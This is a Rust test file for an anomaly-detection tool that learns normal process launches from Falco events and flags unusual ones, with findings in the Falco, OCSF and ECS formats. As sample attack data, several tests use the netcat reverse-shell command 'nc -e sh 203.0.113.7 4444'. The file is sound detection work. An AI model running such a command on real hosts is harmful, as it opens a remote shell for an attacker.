//! `lanner profile`: events in, a profile and findings out.

use std::path::Path;

use serde_json::{Value, json};

use crate::program::{Served, lanner, run, run_with_input, serve};

/// A program that was started, as Falco writes it.
fn event(minute: u32, parent: &str, line: &str) -> String {
    let exe = line.split(' ').next().unwrap();
    json!({
        "time": format!("2026-01-{:02}T{:02}:{:02}:00.000000000Z", 1 + minute / 1_440, minute / 60 % 24, minute % 60),
        "rule": "Program started", "priority": "Notice", "source": "syscall", "hostname": "web-1",
        "output_fields": {
            "evt.type": "execve", "proc.exepath": format!("/usr/bin/{exe}"), "proc.name": exe, "proc.pname": parent,
            "proc.cmdline": line, "container.image.repository": "shop/web",
        },
    })
    .to_string()
        + "\n"
}

/// Two days, with one program a minute.
fn usual() -> String {
    (0..2_880)
        .map(|minute| match minute % 3 {
            0 => event(minute, "cron", &format!("backup --run {minute}")),
            1 => event(minute, "nginx", "php -f index.php"),
            _ => event(minute, "systemd", "logrotate nginx.conf"),
        })
        .collect()
}

fn write(folder: &Path, name: &str, text: &str) -> String {
    let path = folder.join(name);
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn what_is_unusual_is_found_with_the_reason() {
    let folder = tempfile::tempdir().unwrap();
    let (events, out) = (write(folder.path(), "usual.json", &usual()), folder.path().join("host.profile"));
    let out = out.to_str().unwrap();
    run(&["profile", "learn", "--out", out, &events]).says(
        0,
        &["exec: learned 2880 events in 2.0 days, 3 behaviours; expect 0.0 flags a day with rare: 1"],
    );
    run(&["profile", "learn", "--out", out, &events]).says(2, &["exists", "--more"]);
    run(&["profile", "watch", "--frozen", out, &events]).expect(0);

    let strange = event(2_881, "nginx", "nc -e sh 203.0.113.7 4444")
        + "no JSON\n"
        + &event(2_882, "cron", "backup --run 9");
    let ran = run_with_input(&["profile", "watch", out, "-"], strange.as_bytes());
    ran.says(1, &["-:2: the line is not a JSON object"]);
    let found = run_with_input(&["profile", "watch", out, "-"], strange.as_bytes()).expect(1);
    assert_eq!(
        found,
        "2026-01-03T00:01:00Z  exec  nc -e sh 203.0.113.7 4444 (started by nginx): never seen: proc.exepath, \
         template(proc.cmdline)\n"
    );
    let moved = event(2_881, "nginx", "backup --run 3");
    let explained =
        run_with_input(&["profile", "explain", "--format", "json", out, "-"], moved.as_bytes()).expect(0);
    let explained: Value = serde_json::from_str(&explained).unwrap();
    assert_eq!(explained[1]["reason"], "never seen with this proc.pname", "{explained}");
    assert_eq!((&explained[1]["value"], &explained[1]["seen"]), (&json!("nginx"), &json!(15)));
    assert_eq!(
        (&explained[2]["value"], &explained[2]["seen_without"]),
        (&json!("backup --run #"), &json!(0))
    );
}

#[test]
fn findings_are_written_as_others_read_them() {
    let folder = tempfile::tempdir().unwrap();
    let (events, out) = (write(folder.path(), "usual.json", &usual()), folder.path().join("host.profile"));
    let out = out.to_str().unwrap();
    run(&["profile", "learn", "--out", out, &events]).expect(0);
    let strange = event(2_881, "nginx", "nc -e sh 203.0.113.7 4444");
    let written = |form: &str| -> Value {
        let ran =
            run_with_input(&["profile", "watch", "--frozen", "--output", form, out, "-"], strange.as_bytes());
        serde_json::from_str(&ran.expect(1)).unwrap()
    };
    let falco = written("falco");
    assert_eq!((&falco["rule"], &falco["hostname"]), (&json!("Unusual behaviour (exec)"), &json!("web-1")));
    assert_eq!(falco["output_fields"]["anomaly.rare"], true);
    assert_eq!(falco["output_fields"]["proc.pname"], "nginx");
    let ocsf = written("ocsf");
    assert_eq!(
        (&ocsf["class_uid"], &ocsf["type_uid"], &ocsf["time"]),
        (&json!(2_004), &json!(200_401), &json!(1_767_398_460_000_i64))
    );
    let anomaly = &ocsf["anomaly_analyses"][0]["anomalies"][0];
    assert_eq!(
        (&anomaly["observed_pattern"], &anomaly["observations"][0]["count"]),
        (&json!("UNSEEN"), &json!(1))
    );
    let ecs = written("ecs");
    assert_eq!(
        (&ecs["event"]["kind"], &ecs["process"]["parent"]["name"]),
        (&json!("alert"), &json!("nginx"))
    );
    assert_eq!(ecs["container"]["image"]["name"], "shop/web");
    let own = written("json");
    assert_eq!(own["answer"]["new_values"], json!(["proc.exepath", "template(proc.cmdline)"]));
}

#[test]
fn profiles_are_kept_merged_and_unlearned() {
    let folder = tempfile::tempdir().unwrap();
    let events = write(folder.path(), "usual.json", &usual());
    let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let (a, b, both) = (path("a.profile"), path("b.profile"), path("both.profile"));
    run(&["profile", "learn", "--out", &a, &events]).expect(0);
    let other = write(folder.path(), "other.json", &event(2_870, "sshd", "bash -l"));
    run(&["profile", "learn", "--from", &a, "--out", &b, &other]).expect(0);
    run(&["profile", "merge", "--out", &both, &a, &b]).says(0, &["bounds from above"]);
    let shown: Value =
        serde_json::from_str(&run(&["profile", "show", "--format", "json", &both]).expect(0)).unwrap();
    assert_eq!(
        (&shown[0]["events"], &shown[0]["behaviours"], &shown[0]["status"]),
        (&json!(2_881), &json!(4), &json!("active"))
    );
    let top = run(&["profile", "top", "--limit", "1", "--format", "csv", &both]).expect(0);
    assert!(top.contains("exec,960,960,shop/web | /usr/bin/"), "{top}");

    let again = event(2_900, "sshd", "bash -l");
    run_with_input(&["profile", "watch", "--frozen", &both, "-"], again.as_bytes()).expect(0);
    run(&["profile", "unlearn", &both, "--from", "2026-01-02T00:00Z", "--to", "2026-01-03T00:00Z"])
        .says(0, &["exec: forgot everything from 2026-01-02T00:00:00Z to 2026-01-03T00:00:00Z"]);
    run_with_input(&["profile", "watch", "--frozen", &both, "-"], again.as_bytes()).expect(1);

    let foreign = path("foreign.profile");
    run(&["profile", "learn", "--out", &foreign, &other]).expect(0);
    run(&["profile", "merge", "--out", &both, &a, &foreign])
        .says(2, &["differ in their seed", "--from PROFILE"]);
    let damaged = std::fs::read(&a).unwrap();
    std::fs::write(&a, &damaged[..damaged.len() / 2]).unwrap();
    run(&["profile", "show", &a]).says(2, &["a.profile", "cut short"]);
    let mistakes = write(
        folder.path(),
        "mistakes.yaml",
        "profiles:\n  - { id: x, fields: [hash(a)], where: 'a ==', by: '' }\n",
    );
    let told = run(&["profile", "learn", "--config", &mistakes, "--out", &path("x"), &other]);
    assert_eq!(told.code, 2, "{told:?}");
    for part in ["fields[0]: \"hash\" is not a function", "profiles[0].where", "profiles[0].by"] {
        assert!(told.out.contains(part), "{told:?}");
    }
}

/// Nothing becomes usual in a time that a person names, and a profile may look only at what one above it flags.
#[test]
fn profiles_learn_only_what_they_should() {
    let folder = tempfile::tempdir().unwrap();
    let events = write(folder.path(), "usual.json", &usual());
    let config = write(
        folder.path(),
        "two.yaml",
        "profiles:\n  - { id: exec, fields: [proc.exepath, proc.pname] }\n  \
         - { id: alarms, fields: [proc.exepath], where: 'exec.rare == true', learn: 1s }\n",
    );
    let out = folder.path().join("host.profile");
    let out = out.to_str().unwrap();
    let times = ["--hold", "2026-01-02T00:00Z/2026-01-03T00:00Z"];
    let learn = ["profile", "learn", "--config", &config, "--out", out, &events];
    run(&[&learn[..], &times].concat())
        .says(0, &["exec: learned 1440 events", "alarms: no event was one of its own"]);
    run(&["profile", "learn", "--hold", "2026-01-02T00:00Z", "--out", "x", &events]).says(2, &["two times"]);

    // Each is rare for the first profile, and the second has its program once.
    let strange: String = (0..4).map(|n| event(2_890 + n, &format!("p{n}"), "nc -e sh")).collect();
    let watch = ["profile", "watch", "--save", "1h", "--votes", "2", out, "-"];
    let found = run_with_input(&watch, strange.as_bytes()).expect(0);
    assert_eq!(found, "");
    let other = event(2_900, "p9", "nc -e sh") + &event(2_901, "p9", "curl x");
    let found = run_with_input(&watch, other.as_bytes()).expect(1);
    assert!(found.lines().count() == 1 && found.contains("curl x (started by p9)"), "{found}");
    let explained = run_with_input(
        &["profile", "explain", "--format", "json", out, "-"],
        event(2_902, "p7", "nc -e sh").as_bytes(),
    );
    let explained: Value = serde_json::from_str(&explained.expect(0)).unwrap();
    assert_eq!(
        (&explained[2]["profile"], &explained[2]["seen"]),
        (&json!("alarms"), &json!(5)),
        "{explained}"
    );
}

/// A server whose processor gathers what hosts tell.
fn fleet() -> Served {
    let server = serve(tempfile::tempdir().unwrap(), &[]);
    let config = server.file(
        "fleet.yaml",
        "processors:\n  - id: usual\n    stream: falco\n    profile:\n      fields: [proc.exepath, proc.pname, template(proc.cmdline)]\n      \
         where: 'evt.type in (execve, execveat)'\n      common: 2\n      memory: 1\n",
    );
    server.run(&["apply", &config]).expect(0);
    server
}

/// Events of one host, on standard input of `lanner profile watch` as the host `name`.
fn watched(server: &Served, name: &str, profile: &str, events: &str) -> crate::program::Ran {
    use std::io::Write as _;
    let mut command = lanner();
    command.args([
        "profile", "watch", profile, "--fleet", "usual", "--host", name, "--stream", "unusual", "--output",
        "json", "-",
    ]);
    command.env("LANNER_URL", &server.url).stdin(std::process::Stdio::piped());
    command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    child.stdin.take().unwrap().write_all(events.as_bytes()).unwrap();
    child.wait_with_output().unwrap().into()
}

#[test]
fn hosts_tell_one_another_what_is_common() {
    let server = fleet();
    let events = server.file("usual.json", usual());
    let learn = |name: &str| {
        let path = server.path(&format!("{name}.profile"));
        server
            .run(&["profile", "learn", "--fleet", "usual", "--out", &path, &events])
            .says(0, &["usual: learned 2880 events"]);
        path
    };
    let hosts = ["a", "b", "c"].map(|name| (name, learn(name)));
    // Two hosts run the new version of a program; nothing of that is known anywhere before.
    let update = event(2_900, "systemd", "apt-get upgrade -y");
    for (name, profile) in &hosts[..2] {
        let found = watched(&server, name, profile, &update).expect(1);
        let found: Value = serde_json::from_str(&found).unwrap();
        let known = if *name == "a" { 0 } else { 1 };
        assert_eq!(found["answer"]["fleet"]["seen_on"], known, "{name}: {found}");
    }
    let found =
        watched(&server, "c", &hosts[2].1, &(update + &event(2_901, "nginx", "nc -e sh 203.0.113.7 4444")))
            .expect(1);
    let found: Vec<Value> = found.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(found[0]["answer"]["fleet"], json!({ "seen_on": 2, "hosts": 3, "common": true }));
    assert_eq!(found[1]["answer"]["fleet"], json!({ "seen_on": 0, "hosts": 3, "common": false }));
    assert!(found[0]["message"].as_str().unwrap().ends_with("in the fleet on 2 of 3 hosts"), "{}", found[0]);

    // What each found is on the stream, where rules count it.
    let sent = server.run(&["export", "--stream", "unusual"]).expect(0);
    let common = sent.lines().filter(|line| line.contains("\"common\":true")).count();
    assert_eq!((sent.lines().count(), common), (4, 1), "{sent}");

    // The file of another fleet is refused with what to do, and so is a processor that is none.
    let own = server.path("own.profile");
    run(&["profile", "learn", "--out", &own, &events]).expect(0);
    watched(&server, "d", &own, "").says(2, &["no profile \"usual\"", "learn --fleet usual"]);
    let missing = server.path("missing.profile");
    server
        .run(&["profile", "learn", "--fleet", "usaul", "--out", &missing, &events])
        .says(3, &["no processor with a profile", "--fleet names a processor"]);
}

/// A host goes on without its server, and says so once.
#[test]
fn a_host_goes_on_without_its_server() {
    let server = fleet();
    let events = server.file("usual.json", usual());
    let profile = server.path("host.profile");
    server.run(&["profile", "learn", "--fleet", "usual", "--out", &profile, &events]).expect(0);
    let strange = server.file("strange.json", event(2_900, "nginx", "nc -e sh 203.0.113.7 4444"));
    let url = server.url.clone();
    let folder = server.kill();
    let mut command = lanner();
    command.args(["profile", "watch", &profile, "--fleet", "usual", "--url", &url, &strange]);
    let ran = crate::program::Ran::from(command.output().unwrap());
    assert!(ran.out.contains("never seen: proc.exepath"), "{ran:?}");
    assert_eq!(ran.err.matches("the fleet: no answer from 127.0.0.1").count(), 1, "{ran:?}");
    ran.expect(1);
    drop(folder);
}

/// A line that is read no further than needed says the same as one that is read as a whole, which a time as a number makes it.
#[test]
fn a_line_says_the_same_however_far_it_is_read() {
    let folder = tempfile::tempdir().unwrap();
    let config = write(
        folder.path(),
        "config.yaml",
        "profiles:\n  - id: exec\n    where: 'evt.type in (execve, execveat) and not proc.cmdline startsWith \"backup --skip\"'\n    \
         fields: [proc.exepath, 'lineage(proc.aname, 2)', template(proc.cmdline)]\n    by: image(container.image.repository)\n  \
         - { id: parents, fields: [proc.pname, user.name] }\n",
    );
    let line = |at: u32, parent: &str, line: &str, user: Value, is_plain: bool, time: Value| {
        let mut fields = json!({
            "evt.type": if at % 7 == 6 { "open" } else { "execve" }, "proc.exepath": format!("/usr/bin/{}", line.split(' ').next().unwrap()),
            "proc.pname": parent, "proc.aname": [parent, "systemd", "x"], "proc.cmdline": line, "user.name": user,
            "container.image.repository": format!("shop/web:{}", at % 3),
        });
        if is_plain {
            fields["time"] = time;
            return fields.to_string();
        }
        json!({ "time": time, "rule": "r", "hostname": "web", "output_fields": fields }).to_string()
    };
    let lines = |as_number: bool| -> String {
        let one = |at: u32| {
            let ms = 1_767_225_600_000_i64 + i64::from(at) * 60_000;
            let time = if as_number {
                json!(ms)
            } else {
                json!(format!("2026-01-{:02}T{:02}:{:02}:00Z", 1 + at / 1_440, at / 60 % 24, at % 60))
            };
            let parent = if at % 50 == 49 { "nginx" } else { "cron" };
            let command = match at % 11 {
                0 => format!("odd\u{e9}\"{at} --x"),
                1 => format!("backup --skip {at}"),
                _ => format!("backup --run {at} getURL{}", at % 500),
            };
            let user = match at % 4 {
                0 => json!("root"),
                1 => Value::Null,
                2 => json!(7),
                _ => json!(["a", "b"]),
            };
            line(at, parent, &command, user, at.is_multiple_of(5), time)
        };
        (0..4_000).map(|at| one(at) + "\n").collect()
    };
    let (short, long) =
        (write(folder.path(), "short.json", &lines(false)), write(folder.path(), "long.json", &lines(true)));
    let found = |events: &str, form: &str| {
        let out = folder.path().join("host.profile");
        let _ = std::fs::remove_file(&out);
        let first = write(
            folder.path(),
            "first.json",
            &line(0, "init", "init", json!("root"), true, json!("2026-01-01T00:00:00Z")),
        );
        run(&["profile", "learn", "--config", &config, "--out", out.to_str().unwrap(), &first]).expect(0);
        let ran = run(&["profile", "watch", "--output", form, "--save", "1h", out.to_str().unwrap(), events]);
        assert_eq!(ran.err, "", "{ran:?}");
        (
            ran.expect(1),
            run(&["profile", "top", out.to_str().unwrap()]).expect(0),
            run(&["profile", "show", out.to_str().unwrap()]).expect(0),
        )
    };
    let (one, other) = (found(&short, "text"), found(&long, "text"));
    assert!(one.0.lines().count() > 10, "{}", one.0);
    assert_eq!(one, other);
}
